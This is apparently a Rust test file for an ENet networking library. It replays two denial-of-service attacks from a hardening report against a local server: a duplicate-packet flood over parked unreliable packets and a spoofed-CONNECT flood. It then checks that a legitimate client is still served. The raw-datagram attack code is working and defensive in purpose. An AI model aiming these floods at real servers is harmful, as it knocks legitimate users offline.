//! Attacks from the hardening report, run against `enet serve --raw` as a child process
//! over loopback, built from raw UDP datagrams crafted with the protocol codec.
//!
//! * Duplicate flood: one connected attacker parks unreliable packets behind a missing
//!   reliable packet, then sends datagrams full of duplicates of the front of that queue. A
//!   bystander connects and exchanges 40 echoes during the attack. The server's CPU time
//!   over the attack (from `/proc/<pid>/stat`) is printed, next to the C library's (its C
//!   peer as an echo server) under the same traffic.
//! * Spoofed-CONNECT flood: CONNECTs from many source ports keep a 64-slot server's slots
//!   half-open; a legitimate client that retries connects during the flood.
//!
//! Figures are printed, not asserted (the machine is shared and noisy).

mod support;

use std::net::{SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use enet_interop::{CPeer, CPeerOpts};
use enet_proto::host::MAXIMUM_HELD_PER_QUEUE;
use enet_proto::protocol::*;
use enet_proto::{Event, Host, HostConfig, Packet, PeerId};
use support::{cpu_time, Serve};

/// A datagram: header (with sent time) and commands with payloads.
fn datagram(peer_id: u16, session: u8, commands: &[(CommandHeader, Command, &[u8])]) -> Vec<u8> {
    let header = Header {
        peer_id,
        session_id: session,
        compressed: false,
        sent_time: Some(1),
    };
    enet_proto::protocol::encode_datagram(&header, commands)
}

fn connect_command(id: u32) -> (CommandHeader, Command) {
    (
        CommandHeader {
            command: CommandKind::Connect as u8 | COMMAND_FLAG_ACKNOWLEDGE,
            channel_id: CONTROL_CHANNEL,
            reliable_sequence_number: 1,
        },
        Command::Connect(Connect {
            outgoing_peer_id: 0,
            incoming_session_id: 0xFF,
            outgoing_session_id: 0xFF,
            mtu: 1392,
            window_size: 65536,
            channel_count: 2,
            incoming_bandwidth: 0,
            outgoing_bandwidth: 0,
            packet_throttle_interval: 5000,
            packet_throttle_acceleration: 2,
            packet_throttle_deceleration: 2,
            connect_id: id.to_le_bytes(),
            data: id,
        }),
    )
}

/// A connected peer made by hand on a raw UDP socket. It acknowledges whatever reliable
/// commands the server sends (pings), so that the server keeps it.
struct Attacker {
    sock: UdpSocket,
    server: SocketAddr,
    peer_id: u16,
    session: u8,
}

impl Attacker {
    fn connect(server: SocketAddr) -> Attacker {
        let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
        sock.set_read_timeout(Some(Duration::from_millis(50)))
            .unwrap();
        let end = Instant::now() + Duration::from_secs(10);
        let (h, c) = connect_command(0xA77A);
        let hello = datagram(MAXIMUM_PEER_ID, 0, &[(h, c, &[])]);
        let mut buf = [0u8; 4096];
        loop {
            assert!(Instant::now() < end, "no VERIFY_CONNECT");
            sock.send_to(&hello, server).unwrap();
            let Ok((n, _)) = sock.recv_from(&mut buf) else {
                continue;
            };
            let Ok((hdr, mut pos)) = Header::read(&buf[..n]) else {
                continue;
            };
            while pos < n {
                let Ok((ch, cmd, size)) = Command::read(&buf[pos..n]) else {
                    break;
                };
                pos += size + cmd.data_length();
                if let Command::VerifyConnect(v) = cmd {
                    let a = Attacker {
                        sock,
                        server,
                        peer_id: v.outgoing_peer_id,
                        session: v.outgoing_session_id,
                    };
                    a.ack(&ch, hdr.sent_time.unwrap_or(0));
                    a.sock.set_nonblocking(true).unwrap();
                    return a;
                }
            }
        }
    }

    fn ack(&self, ch: &CommandHeader, sent_time: u16) {
        let h = CommandHeader {
            command: CommandKind::Acknowledge as u8,
            channel_id: ch.channel_id,
            reliable_sequence_number: ch.reliable_sequence_number,
        };
        let body = Command::Acknowledge {
            received_reliable_sequence_number: ch.reliable_sequence_number,
            received_sent_time: sent_time,
        };
        let dg = datagram(self.peer_id, self.session, &[(h, body, &[])]);
        let _ = self.sock.send_to(&dg, self.server);
    }

    /// Acknowledges every reliable command received so far.
    fn answer(&self) {
        let mut buf = [0u8; 4096];
        while let Ok((n, _)) = self.sock.recv_from(&mut buf) {
            let Ok((hdr, mut pos)) = Header::read(&buf[..n]) else {
                continue;
            };
            while pos < n {
                let Ok((ch, cmd, size)) = Command::read(&buf[pos..n]) else {
                    break;
                };
                pos += size + cmd.data_length();
                if ch.is_reliable() {
                    self.ack(&ch, hdr.sent_time.unwrap_or(0));
                }
            }
        }
    }

    /// A datagram of empty unreliable packets on channel 0 after reliable seq `seq`.
    fn unreliables(&self, seq: u16, useqs: impl Iterator<Item = u16>) -> Vec<u8> {
        let cmds: Vec<(CommandHeader, Command, &[u8])> = useqs
            .map(|u| {
                (
                    CommandHeader {
                        command: CommandKind::SendUnreliable as u8,
                        channel_id: 0,
                        reliable_sequence_number: seq,
                    },
                    Command::SendUnreliable {
                        unreliable_sequence_number: u,
                        data_length: 0,
                    },
                    &[][..],
                )
            })
            .collect();
        datagram(self.peer_id, self.session, &cmds)
    }

    fn send(&self, dg: &[u8]) {
        let _ = self.sock.send_to(dg, self.server);
    }
}

/// An ENet client: the sans-IO engine driven over a UDP socket.
struct Client {
    host: Host,
    sock: UdpSocket,
    events: Vec<Event>,
    buf: Vec<u8>,
}

impl Client {
    fn new() -> Client {
        let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
        sock.set_read_timeout(Some(Duration::from_millis(2)))
            .unwrap();
        Client {
            host: Host::new(HostConfig::default(), Instant::now()).unwrap(),
            sock,
            events: Vec::new(),
            buf: Vec::new(),
        }
    }

    /// Runs the engine for `d`, or until `done` holds for the events so far.
    fn run(&mut self, d: Duration, mut done: impl FnMut(&[Event]) -> bool) -> bool {
        let end = Instant::now() + d;
        let mut rx = [0u8; 4096];
        loop {
            let now = Instant::now();
            self.host.handle_timeout(now);
            while let Some(to) = self.host.poll_transmit(now, &mut self.buf) {
                let _ = self.sock.send_to(&self.buf, to);
            }
            while let Some(e) = self.host.poll_event() {
                self.events.push(e);
            }
            if done(&self.events) {
                return true;
            }
            if now >= end {
                return false;
            }
            if let Ok((n, from)) = self.sock.recv_from(&mut rx) {
                self.host.handle_datagram(Instant::now(), from, &rx[..n]);
            }
        }
    }

    /// Connects (one attempt of up to `d`); the peer id on success.
    fn connect(&mut self, server: SocketAddr, d: Duration) -> Option<PeerId> {
        self.events.clear();
        let peer = self.host.connect(Instant::now(), server, 2, 0).ok()?;
        let ok = self.run(d, |ev| {
            ev.iter()
                .any(|e| matches!(e, Event::Connect { .. } | Event::Disconnect { .. }))
        });
        let connected = ok
            && self
                .events
                .iter()
                .any(|e| matches!(e, Event::Connect { .. }));
        if connected {
            Some(peer)
        } else {
            let _ = self.host.reset(peer);
            None
        }
    }

    /// Sends one reliable packet and waits up to `d` for its echo.
    fn echo(&mut self, peer: PeerId, i: u32, d: Duration) -> bool {
        let msg = format!("bystander echo {i}").into_bytes();
        if self
            .host
            .send(peer, 1, Packet::reliable(msg.clone()))
            .is_err()
        {
            return false;
        }
        self.events.clear();
        self.run(d, |ev| {
            ev.iter()
                .any(|e| matches!(e, Event::Receive { packet, .. } if packet.data == msg))
        })
    }
}

/// Unreliable packets parked behind the missing reliable seq 1 (C holds them all; we hold
/// at most `MAXIMUM_HELD_PER_QUEUE` per channel and count the rest).
/// (The report's ~419k: unreliable sequence numbers are 16-bit, so the packets follow
/// reliable seqs 1..=7, 65,535 each, all held while seq 1 is missing.)
const PARKED: u32 = 420_000;
/// Duplicates per attack datagram (as many as fit in 1,392 bytes).
const PER_DATAGRAM: u16 = 170;
/// Attack datagrams per second, and the attack's length.
const RATE: u32 = 20;
const ATTACK: Duration = Duration::from_secs(4);

struct FloodResult {
    /// The bystander connected and got an echo before the attack (the control).
    control: bool,
    cpu: Duration,
    wall: Duration,
    echoes: u32,
    connected: bool,
}

/// Runs the duplicate flood against the server at `port` (process `pid`) while a bystander
/// connects and exchanges 40 echoes, trying until `grace` after the attack's planned end.
fn duplicate_flood(port: u16, pid: u32, parked: u32, grace: Duration) -> FloodResult {
    let server: SocketAddr = ([127, 0, 0, 1], port).into();
    // Control: without an attack, the bystander connects and gets its echo.
    let mut client = Client::new();
    let control = match client.connect(server, Duration::from_secs(5)) {
        Some(peer) => {
            let ok = client.echo(peer, 1000, Duration::from_secs(5));
            let _ = client.host.disconnect_now(peer, 0);
            client.run(Duration::from_millis(20), |_| false);
            ok
        }
        None => false,
    };
    let attacker = Attacker::connect(server);
    // Park: reliable seq 1 never arrives, so everything after it waits.
    let mut u: u32 = 1;
    let mut sent = 0;
    while u <= parked {
        // One reliable seq per datagram: stop at the end of each 65,535 block.
        let block = (u - 1) / 65_535;
        let in_block = (u - 1) % 65_535 + 1;
        let n = (parked - u + 1)
            .min(u32::from(PER_DATAGRAM))
            .min(65_535 - in_block + 1);
        let seq = 1 + block as u16;
        let dg = attacker.unreliables(seq, (in_block..in_block + n).map(|x| x as u16));
        attacker.send(&dg);
        u += n;
        sent += 1;
        if sent % 16 == 0 {
            // Pace so that the server's receive buffer does not overflow.
            std::thread::sleep(Duration::from_millis(5));
            attacker.answer();
        }
    }
    std::thread::sleep(Duration::from_millis(300));
    attacker.answer();
    // Attack: datagrams of duplicates of the front of the queue, while a bystander works.
    let stop = Arc::new(AtomicBool::new(false));
    let dups = attacker.unreliables(1, 1..=PER_DATAGRAM);
    let stop2 = stop.clone();
    let cpu0 = cpu_time(pid);
    let t0 = Instant::now();
    let flood = std::thread::spawn(move || {
        let period = Duration::from_secs(1) / RATE;
        let mut next = Instant::now();
        while !stop2.load(Ordering::Relaxed) && next.elapsed() < ATTACK * 10 {
            attacker.send(&dups);
            attacker.answer();
            next += period;
            if let Some(wait) = next.checked_duration_since(Instant::now()) {
                std::thread::sleep(wait);
            }
        }
    });
    let mut client = Client::new();
    let mut echoes = 0;
    let mut connected = false;
    let deadline = t0 + ATTACK + grace;
    while !connected && Instant::now() < deadline {
        let left = deadline.saturating_duration_since(Instant::now());
        if let Some(peer) = client.connect(server, left.min(Duration::from_secs(3))) {
            connected = true;
            while echoes < 40 && Instant::now() < deadline {
                if client.echo(peer, echoes, Duration::from_secs(3)) {
                    echoes += 1;
                }
            }
        }
    }
    // The attack lasts at least `ATTACK`, whatever the bystander's pace.
    if let Some(rest) = (t0 + ATTACK).checked_duration_since(Instant::now()) {
        std::thread::sleep(rest);
    }
    let cpu = cpu_time(pid) - cpu0;
    let wall = t0.elapsed();
    stop.store(true, Ordering::Relaxed);
    flood.join().unwrap();
    FloodResult {
        control,
        cpu,
        wall,
        echoes,
        connected,
    }
}

fn percent(r: &FloodResult) -> f64 {
    100.0 * r.cpu.as_secs_f64() / r.wall.as_secs_f64()
}

#[test]
fn duplicate_flood_does_not_stall_the_server() {
    // The report's attack (our queue bound refuses most of the parking), and the worst
    // case for us: a queue just below its bound, so that every duplicate is looked up.
    for parked in [PARKED, MAXIMUM_HELD_PER_QUEUE as u32 - 1] {
        let mut ours = Serve::start(&["--raw"]);
        let pid = ours.child.id();
        let r = duplicate_flood(ours.port, pid, parked, Duration::from_secs(10));
        assert!(ours.alive(), "enet serve died");
        println!(
            "duplicate flood ({parked} parked), enet serve --raw: server CPU {:.0}% ({:?} over \
             {:?}), bystander {} echoes",
            percent(&r),
            r.cpu,
            r.wall,
            r.echoes
        );
        assert!(
            r.control,
            "the bystander could not connect without an attack"
        );
        assert!(
            r.connected,
            "the bystander could not connect during the attack"
        );
        assert_eq!(r.echoes, 40, "the bystander's echoes during the attack");
    }

    // The same traffic against the C library, for comparison (not asserted: C has the flaw).
    // Without the library (a bare machine) only our half runs.
    if !enet_interop::require_c_library() {
        return;
    }
    let c = CPeer::spawn_server(&CPeerOpts::new().echo().peers(64).channels(2));
    let rc = duplicate_flood(c.port(), c.pid(), PARKED, Duration::from_secs(1));
    println!(
        "duplicate flood ({PARKED} parked), C ENet 1.3.17 echo server: server CPU {:.0}% \
         ({:?} over {:?}), bystander connected {} (without attack: {}), {} echoes",
        percent(&rc),
        rc.cpu,
        rc.wall,
        rc.connected,
        rc.control,
        rc.echoes
    );
}

/// CONNECT datagrams per second of the flood, and its longest duration.
const FLOOD_RATE: u64 = 10_000;
const FLOOD: Duration = Duration::from_secs(10);
/// Spoofed CONNECTs sent before the real client starts (the server has 64 slots).
const FLOOD_BEFORE: u64 = 5_000;

#[test]
fn spoofed_connect_flood_does_not_lock_out_a_real_client() {
    let mut serve = Serve::start(&["--raw", "--max-clients", "64"]);
    let server: SocketAddr = ([127, 0, 0, 1], serve.port).into();
    // Many source addresses and ports: 127.0.0.2..=127.0.0.201, one socket each.
    let socks: Vec<UdpSocket> = (2..=201u8)
        .map(|x| {
            let s = UdpSocket::bind(SocketAddr::from(([127, 0, 0, x], 0))).unwrap();
            s.set_nonblocking(true).unwrap();
            s
        })
        .collect();
    let stop = Arc::new(AtomicBool::new(false));
    let sent = Arc::new(AtomicU64::new(0));
    let (stop2, sent2) = (stop.clone(), sent.clone());
    let t0 = Instant::now();
    let flood = std::thread::spawn(move || {
        let mut id: u32 = 0x5000_0000;
        let mut buf = [0u8; 1024];
        while !stop2.load(Ordering::Relaxed) && t0.elapsed() < FLOOD {
            // Catch up to the target rate in 1 ms steps.
            let due = t0.elapsed().as_micros() as u64 * FLOOD_RATE / 1_000_000;
            while sent2.load(Ordering::Relaxed) < due {
                let (h, c) = connect_command(id);
                let dg = datagram(MAXIMUM_PEER_ID, 0, &[(h, c, &[])]);
                let s = &socks[id as usize % socks.len()];
                let _ = s.send_to(&dg, server);
                // Replies (VERIFY_CONNECT) are read and thrown away.
                while s.recv_from(&mut buf).is_ok() {}
                id = id.wrapping_add(1);
                sent2.fetch_add(1, Ordering::Relaxed);
            }
            std::thread::sleep(Duration::from_millis(1));
        }
    });
    // Let the flood turn every slot over many times first.
    while sent.load(Ordering::Relaxed) < FLOOD_BEFORE && t0.elapsed() < FLOOD {
        std::thread::sleep(Duration::from_millis(10));
    }
    let mut client = Client::new();
    let mut attempts = 0;
    let mut joined = None;
    while joined.is_none() && t0.elapsed() < FLOOD {
        attempts += 1;
        if let Some(peer) = client.connect(server, Duration::from_secs(1)) {
            // Connected as far as the client knows: the echo proves the server agrees.
            if client.echo(peer, attempts, Duration::from_secs(1)) {
                joined = Some(t0.elapsed());
            } else {
                let _ = client.host.reset(peer);
            }
        }
    }
    let during = sent.load(Ordering::Relaxed);
    let flooding = t0.elapsed() < FLOOD;
    stop.store(true, Ordering::Relaxed);
    flood.join().unwrap();
    assert!(serve.alive(), "enet serve died");
    println!(
        "spoofed-CONNECT flood at {FLOOD_RATE}/s from 200 addresses: client joined after {:?} \
         ({attempts} attempt(s)), {during} CONNECTs sent by then, {} in all",
        joined,
        sent.load(Ordering::Relaxed)
    );
    let at = joined.expect("the client never got in during the flood");
    assert!(flooding, "joined only after the flood ended ({at:?})");
    assert!(
        during >= FLOOD_BEFORE,
        "the flood was running ({during} sent)"
    );
}
